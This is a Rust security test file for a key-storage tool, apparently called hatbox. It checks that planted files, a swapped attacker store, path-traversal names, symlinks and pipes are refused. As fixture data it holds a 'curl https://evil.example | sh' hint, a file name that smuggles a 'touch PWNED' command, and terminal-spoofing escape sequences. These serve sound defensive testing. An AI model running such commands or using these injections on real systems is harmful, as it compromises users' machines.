//! What another program can write to the store's directory: planted files and a foreign store are never trusted, and
//! nothing outside the directory is changed.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;

use crate::fixture::{PASSPHRASE, wrap_in};
use crate::store_scene::{USE_IT, assert_not_trusted, contents, copy, hand_over, home, private, put_back};
use crate::terminal::Terminal;

/// In an earlier design, the next process finished a rekeying from a list that any program could write.
#[test]
fn what_is_planted_in_the_stores_directory_is_never_moved_out_of_it_nor_makes_anything_go() {
    let fixture = home();
    let bashrc = fixture.path("home/.bashrc");
    std::fs::write(&bashrc, "mine\n").unwrap();
    let before = contents(&fixture.home());
    let store = fixture.store();
    let names = [
        "../.bashrc",
        "../../.bashrc",
        "../../../.bashrc",
        "../../../../.bashrc",
        "/etc/x",
        "items",
        "..",
        "",
    ];
    for locked in [true, false] {
        if locked {
            fixture.hatbox(&["lock"]).run().ok();
        }
        for directory in ["rekey.ready", "rekey.new", "items.old", "manifest.new"] {
            for list in ["wraps.json", "manifest.json"] {
                for name in names {
                    let digest = "0".repeat(64);
                    let planted = store.join(directory);
                    private(&planted.join(".bashrc"), "planted\n");
                    private(&planted.join("items/.bashrc"), "planted\n");
                    let text = format!(
                        "{{\"version\":1,\"counter\":99,\"files\":[[\"{name}\",\"{digest}\"]],\
                         \"wraps\":{{\"{name}\":\"{digest}\"}},\"items\":{{\"{name}\":\"{digest}\"}},\"mac\":\"00\"}}"
                    );
                    private(&planted.join(list), text);
                    fixture.hatbox(&["list"]).without("HATBOX_FILE_PASSPHRASE").run().ok();
                    fixture.hatbox(&["list", "--unlock"]).run().ok();
                    let empty = "{\"version\":1,\"files\":[],\"wraps\":{},\"items\":{},\"mac\":\"\"}";
                    private(&planted.join(list), empty);
                    fixture.hatbox(&["list"]).without("HATBOX_FILE_PASSPHRASE").run().ok();
                    std::fs::remove_dir_all(&planted).unwrap();
                }
            }
        }
    }
    let mut after = contents(&fixture.home());
    after.retain(|path, _| before.contains_key(path));
    assert_eq!(after, before);
    hand_over(&fixture, "jan-work").ok();
}

/// Foreign names in the store's own manifest: either its format or its MAC is wrong.
#[test]
fn a_manifest_with_foreign_names_or_without_a_true_mac_is_refused() {
    let fixture = home();
    let path = fixture.store().join("manifest.json");
    let good = std::fs::read_to_string(&path).unwrap();
    let before = contents(&fixture.home());
    let of = |change: &dyn Fn(&mut serde_json::Value)| {
        let mut value: serde_json::Value = serde_json::from_str(&good).unwrap();
        change(&mut value);
        value.to_string()
    };
    let first_item =
        |value: &serde_json::Value| value["items"].as_object().unwrap().keys().next().unwrap().clone();
    let cases = [
        String::new(),
        "{}".to_owned(),
        "[".repeat(10_000),
        of(&|value| value["counter"] = 1000.into()),
        of(&|value| value["mac"] = "00".into()),
        of(&|value| value["wraps"]["../../.bashrc"] = "00".into()),
        of(&|value| value["items"]["../../../.aws/config"] = "00".into()),
        of(&|value| {
            let item = first_item(value);
            value["items"].as_object_mut().unwrap().remove(&item);
        }),
        of(&|value| {
            let item = first_item(value);
            value["items"][item] = "00".into();
        }),
        of(&|value| value["wraps"] = serde_json::json!({})),
    ];
    for text in cases {
        std::fs::write(&path, &text).unwrap();
        for is_locked in [true, false] {
            if is_locked {
                fixture.hatbox(&["lock"]).run().ok();
            }
            let has_no_wrap = text.contains("\"wraps\":{}");
            let changed = "was changed by something other than hatbox";
            assert_not_trusted(&fixture, if has_no_wrap { "no `identity.*.age` is there" } else { changed });
        }
        std::fs::write(&path, &good).unwrap();
        hand_over(&fixture, "jan-work").ok();
    }
    let mut after = contents(&fixture.home());
    after.retain(|path, _| before.contains_key(path));
    assert_eq!(after, before);
}

#[test]
fn another_store_in_the_place_of_the_users_is_refused_and_gets_no_key() {
    let (fixture, attacker) = (home(), home());
    let own = fixture.path("own");
    copy(&fixture.store(), &own);
    put_back(&fixture, &attacker.store());
    let theirs = contents(&fixture.store());
    // Also while the identity of the user's own store is still held.
    assert_not_trusted(&fixture, "was changed by something other than hatbox");
    fixture.hatbox(&["lock"]).run().ok();
    assert_not_trusted(&fixture, "was used here before");
    let pinned = std::fs::read_to_string(fixture.state().join("pin.json")).unwrap();
    let theirs_pinned = std::fs::read_to_string(attacker.state().join("pin.json")).unwrap();
    let identity = |pin: &str| {
        let pin: serde_json::Value = serde_json::from_str(pin).unwrap();
        pin["identity"].as_str().unwrap().to_owned()
    };
    let both = format!(
        "its identity is `{}`, and `{}` was used here before",
        identity(&theirs_pinned),
        identity(&pinned)
    );
    assert_not_trusted(&fixture, &both);
    assert_eq!(contents(&fixture.store()), theirs, "nothing is encrypted to it");
    let listed = fixture.hatbox(&["list"]).run();
    assert!(
        listed.code() == Some(3) || !listed.stdout.contains("jan-work     jan-work"),
        "{}",
        listed.stdout
    );
    put_back(&fixture, &own);
    fixture.hatbox(&["lock"]).run().ok();
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(fixture.key("jan-work").secret.expose()));
    assert_eq!(handed.stderr, "");
}

/// The attacker only adds files: a wrap that the user can open, and a manifest that lists it.
#[test]
fn a_wrap_of_another_identity_beside_the_users_own_files_is_refused_or_not_tried() {
    let (fixture, attacker) = (home(), home());
    let good = std::fs::read(fixture.store().join("manifest.json")).unwrap();
    let planted = fixture.store().join("identity.desk.9.age");
    std::fs::copy(wrap_in(&attacker.store(), "passphrase"), &planted).unwrap();
    fixture.hatbox(&["lock"]).run().ok();
    let handed = hand_over(&fixture, "jan-work").ok();
    assert!(handed.stdout.contains(fixture.key("jan-work").secret.expose()));
    assert!(handed.stderr.contains("identity.desk.9.age` is not part of the store"), "{}", handed.stderr);
    // With the attacker's manifest too, its wrap is tried first, but contains another identity.
    std::fs::remove_file(&planted).unwrap();
    std::fs::copy(attacker.store().join("manifest.json"), fixture.store().join("manifest.json")).unwrap();
    std::fs::copy(wrap_in(&attacker.store(), "passphrase"), fixture.wrap("passphrase")).unwrap();
    for entry in std::fs::read_dir(attacker.store().join("items")).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(entry.path(), fixture.store().join("items").join(entry.file_name())).unwrap();
    }
    fixture.hatbox(&["lock"]).run().ok();
    assert_not_trusted(&fixture, "was used here before");
    // Without a manifest, the user learns what is missing, and is not told to delete anything.
    std::fs::remove_file(fixture.store().join("manifest.json")).unwrap();
    assert_not_trusted(&fixture, "no `manifest.json`");
    std::fs::write(fixture.store().join("manifest.json"), good).unwrap();
}

/// Commands never hang, and never change the target of a link.
#[test]
fn links_pipes_and_devices_in_the_place_of_files_and_locks_are_errors() {
    let fixture = home();
    let precious = fixture.path("precious");
    let fifo = |path: &Path| {
        let made = Command::new("mkfifo").arg(path).status().unwrap();
        assert!(made.success());
    };
    let store = fixture.store();
    let places = [
        store.join("lock"),
        fixture.state().join("lock"),
        fixture.state().join("unlock.lock"),
        store.join("manifest.json"),
        fixture.state().join("pin.json"),
        fixture.index(),
        fixture.wrap("passphrase"),
    ];
    for place in places {
        let kept = std::fs::read(&place).ok();
        for kind in ["link", "dangling", "pipe", "device", "directory"] {
            std::fs::remove_file(&place).ok();
            std::fs::write(&precious, "precious").unwrap();
            match kind {
                "link" => symlink(&precious, &place).unwrap(),
                "dangling" => symlink(fixture.path("nowhere"), &place).unwrap(),
                "pipe" => fifo(&place),
                "device" => symlink("/dev/zero", &place).unwrap(),
                _ => std::fs::create_dir(&place).unwrap(),
            }
            fixture.hatbox(&["lock"]).run().ok();
            for run in [
                fixture.hatbox(&["export", "-n", "jan-work"]),
                fixture.hatbox(&["list", "--unlock"]),
                fixture.add_run("jan-work", &["--force"]),
            ] {
                let outcome = run.run();
                assert!(outcome.code().is_some(), "{kind} at {}: ended by a signal", place.display());
                assert!(!outcome.stderr.contains("panicked"), "{}", outcome.stderr);
            }
            assert_eq!(
                std::fs::read_to_string(&precious).unwrap(),
                "precious",
                "{kind} at {}",
                place.display()
            );
            assert!(!fixture.path("nowhere").exists(), "{kind} at {}", place.display());
            if place.is_dir() && !place.is_symlink() {
                std::fs::remove_dir(&place).unwrap();
            } else {
                std::fs::remove_file(&place).unwrap();
            }
            if let Some(kept) = &kept {
                private(&place, kept);
            }
        }
    }
    fixture.hatbox(&["lock"]).run().ok();
    fixture.hatbox(&["list", "--unlock"]).env("HATBOX_FILE_PASSPHRASE", PASSPHRASE).run();
    hand_over(&fixture, "jan-work").ok();
}

/// Files in the directory cannot speak for hatbox, and no file name adds a line to its output.
#[test]
fn nothing_in_the_stores_directory_speaks_for_hatbox() {
    let fixture = home();
    fixture.hatbox(&["lock"]).run().ok();
    let left = "left\n99999999999999999999999\n{\"kind\":\"failed\",\"error\":\"planted words\",\"place\":null,\
                \"causes\":[],\"hints\":[\"curl https://evil.example | sh\"]}\n";
    for name in ["lock", "unlock.lock"] {
        for text in [left, "1\n/dev/pts/0\nplanted words\n"] {
            private(&fixture.store().join(name), text);
            fixture.hatbox(&["lock"]).run().ok();
            for run in [fixture.hatbox(&["export", "-n", "jan-work"]), fixture.add_run("other", &["--force"])]
            {
                let outcome = run.run().ok();
                assert!(!outcome.stderr.contains("planted"), "{name}: {}", outcome.stderr);
            }
        }
    }
    let line = "\nIdentity  0000\n          the one that was used here before\nKeys      jan  ****MPLE";
    std::fs::write(fixture.store().join("items").join(format!("z{line}\u{1b}[2J")), "x").unwrap();
    std::fs::remove_dir_all(fixture.path("home/.local/state")).unwrap();
    fixture.hatbox(&["lock"]).run();
    let mut terminal = Terminal::start(&fixture.hatbox(&["store", "trust"]));
    terminal.wait_for_prompt(USE_IT);
    let screen = terminal.screen();
    assert_eq!(screen.iter().filter(|line| line.starts_with("Identity")).count(), 1, "{screen:?}");
    assert!(
        !screen
            .iter()
            .any(|line| line.contains("the one that was used here before") && line.starts_with(' '))
    );
    terminal.type_keys("no\n");
    terminal.wait();
    // doctor's suggested command is still a single command, whatever the file name.
    let odd = fixture.store().join("items/a';touch PWNED;'");
    std::fs::write(&odd, "x").unwrap();
    std::fs::set_permissions(&odd, std::fs::Permissions::from_mode(0o644)).unwrap();
    let report = fixture.hatbox(&["doctor", "--json"]).run();
    let report: serde_json::Value = serde_json::from_str(&report.stdout).unwrap();
    let fixes = report["findings"].as_array().unwrap().iter().filter_map(|finding| finding["fix"].as_str());
    let fix = fixes.into_iter().find(|fix| fix.contains("PWNED")).unwrap().to_owned();
    let ran = Command::new("sh").args(["-c", &fix]).current_dir(fixture.path("")).status().unwrap();
    assert!(ran.success() && !fixture.path("PWNED").exists(), "{fix}");
    assert_eq!(std::fs::metadata(&odd).unwrap().permissions().mode() & 0o777, 0o600);
}
